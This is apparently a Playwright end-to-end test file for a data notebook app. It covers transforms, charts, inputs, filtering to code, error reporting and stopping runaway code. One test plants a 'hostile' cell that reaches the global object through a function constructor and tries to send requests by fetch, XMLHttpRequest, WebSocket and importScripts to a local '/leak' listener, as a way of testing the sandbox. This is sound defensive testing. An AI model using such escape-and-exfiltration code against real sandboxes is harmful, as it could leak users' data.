import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type Page, test as base, type TestInfo } from '@playwright/test';
import { expect, openApp, test } from './app';
import { command } from './by-keys';
import { dropFiles } from './drop-files';

/** Ten purchases a person can add up: A 10 + 20 + 30 + 40, B 5 + 15 + 25, C 1 + 2 + 3. */
const SALES = `who,shop,amount
${[10, 20, 30, 40].map((amount, i) => `a${i},A,${amount}`).join('\n')}
${[5, 15, 25].map((amount, i) => `b${i},B,${amount}`).join('\n')}
${[1, 2, 3].map((amount, i) => `c${i},C,${amount}`).join('\n')}
`;

const NOTEBOOK = `\`\`\`json lift:notebook
{ "liftbook": 1, "timezone": "UTC" }
\`\`\`

# Sales

\`\`\`json lift:source sales
{ "file": "sales.csv", "roles": { "user": "who" } }
\`\`\`
`;

async function open(page: Page, testInfo: TestInfo, text: string): Promise<void> {
  const files = [testInfo.outputPath('sales.csv'), testInfo.outputPath('sales.lift.md')] as const;
  await writeFile(files[0], SALES);
  await writeFile(files[1], text);
  await dropFiles(page, ...files);
  await expect(page.getByText('10 rows').first()).toBeVisible();
}

const cell = (page: Page, id: string) => page.locator(`[data-cell="${id}"]`);

async function writeCode(page: Page, id: string, code: string): Promise<void> {
  await cell(page, id).locator('.code, .cm-content').click();
  await cell(page, id).locator('.cm-content').click();
  await page.keyboard.press('Control+a');
  await page.keyboard.insertText(code);
  await page.keyboard.press('Shift+Enter');
}

test('a transform is written and charted, and both follow an input', async ({ page }, testInfo) => {
  await open(page, testInfo, NOTEBOOK);
  await command(page, 'Insert transform');
  await writeCode(
    page,
    'transform',
    "sales.groupby('shop').rollup({ sum: d => op.sum(d.amount) })",
  );
  await expect(
    cell(page, 'transform').getByRole('gridcell', { name: '100', exact: true }),
  ).toBeVisible();

  await command(page, 'Insert chart');
  await expect(cell(page, 'chart').locator('figure svg.marks')).toBeVisible();
  await cell(page, 'chart').getByRole('button', { name: 'As a table' }).click();
  await expect(cell(page, 'chart').getByRole('cell', { name: '100', exact: true })).toBeVisible();

  await command(page, 'Insert input');
  await writeCode(
    page,
    'transform',
    "sales.filter((d, $) => d.amount > $.input).groupby('shop').rollup({ sum: d => op.sum(d.amount) })",
  );
  await cell(page, 'input').getByRole('spinbutton').fill('15');
  await page.keyboard.press('Tab');
  await expect(
    cell(page, 'transform').getByRole('gridcell', { name: '90', exact: true }),
  ).toBeVisible();
  await expect(cell(page, 'chart').getByRole('cell', { name: '90.0' })).toBeVisible();
  await expect(cell(page, 'chart').getByRole('cell', { name: '25.0' })).toBeVisible();

  await cell(page, 'chart').click();
  await command(page, 'Undo');
  await expect(cell(page, 'chart').getByRole('cell', { name: '100', exact: true })).toBeVisible();
});

test('a table that was sorted and filtered becomes the code that makes it', async ({
  page,
}, testInfo) => {
  await open(page, testInfo, NOTEBOOK);
  await cell(page, 'sales').getByRole('button', { name: 'First rows' }).click();
  const sort = cell(page, 'sales').getByRole('button', { name: 'amount' });
  await sort.click();
  await sort.click();
  const first = (id: string) =>
    cell(page, id).locator('[role="rowgroup"].rows [role="row"]').first();
  await expect(first('sales')).toContainText('a3A40');
  await cell(page, 'sales').getByRole('button', { name: 'Filter' }).click();
  await cell(page, 'sales').getByRole('button', { name: '+ Condition' }).click();
  await cell(page, 'sales').getByLabel('Condition').first().selectOption('shop');
  await cell(page, 'sales').getByLabel('Condition: shop').fill('B');
  await page.keyboard.press('Tab');
  await expect(cell(page, 'sales').getByText('3 of 10 rows')).toBeVisible();
  await cell(page, 'sales').getByRole('button', { name: 'As code' }).click();
  await expect(cell(page, 'sales_rows').locator('.code')).toContainText("aq.desc('amount')");
  await expect(first('sales_rows')).toContainText('b2');
  await expect(cell(page, 'sales_rows').getByText('3 rows')).toBeVisible();
});

test('what is wrong in code is said at its line', async ({ page }, testInfo) => {
  await open(page, testInfo, NOTEBOOK);
  await command(page, 'Insert transform');
  await writeCode(page, 'transform', 'const k = 1;\nsales.filter(d => d.amount > k)');
  const note = cell(page, 'transform').getByText(
    'Inside a table verb “k” is not known by that name.',
  );
  await expect(note).toBeVisible();
  await expect(cell(page, 'transform').getByText('line 13')).toBeVisible();
});

base(
  'code of somebody’s notebook waits for the reader, and reaches nothing then',
  async ({ page, baseURL }, testInfo) => {
    const asked: string[] = [];
    const server = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.setHeader('Access-Control-Allow-Origin', '*');
      response.end('');
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}/leak`;
    // By way of a function's constructor: the names themselves are refused before anything runs.
    const hostile = `const out = [].at.constructor('return this')();
const tried = [];
const attempt = (name, act) => { try { act(); tried.push(name); } catch { tried.push(name); } };
attempt('fetch', () => out.fetch('${address}').catch(() => {}));
attempt('xhr', () => { const x = new out.XMLHttpRequest(); x.open('GET', '${address}', false); x.send(); });
attempt('socket', () => new out.WebSocket('${address.replace('http', 'ws')}'));
attempt('script', () => out.importScripts('${address}'));
attempt('frame', () => out.postMessage({ type: 'trust' }));
tried.length`;
    await openApp(page, baseURL ?? '');
    await open(page, testInfo, `${NOTEBOOK}\n\`\`\`js lift:transform spy\n${hostile}\n\`\`\`\n`);
    await expect(
      cell(page, 'spy').getByText('code that you have not allowed to run'),
    ).toBeVisible();
    await expect(page.getByRole('contentinfo').getByText('Code not run')).toBeVisible();
    await cell(page, 'spy').getByRole('button', { name: 'Run this notebook’s code' }).click();
    await expect(cell(page, 'spy').locator('pre')).toHaveText('5');
    await expect(page.getByText('Code not run')).toBeHidden();
    // The control: the listener does hear the page's own test.
    expect(asked).toEqual([]);
    await fetch(address);
    expect(asked).toEqual(['/leak']);
    server.close();

    await page.reload();
    await open(page, testInfo, `${NOTEBOOK}\n\`\`\`js lift:transform spy\n${hostile}\n\`\`\`\n`);
    await expect(cell(page, 'spy').locator('pre')).toHaveText('5');
  },
);

test('code that does not end is stopped, and the page stays', async ({ page }, testInfo) => {
  await open(page, testInfo, NOTEBOOK);
  await command(page, 'Insert transform');
  await writeCode(page, 'transform', 'for (;;) {}');
  const stop = cell(page, 'transform').getByRole('button', { name: 'Stop' });
  await stop.click();
  await expect(stop).toBeHidden();
  await writeCode(page, 'transform', '6 * 7');
  await expect(cell(page, 'transform').locator('pre')).toHaveText('42');
});
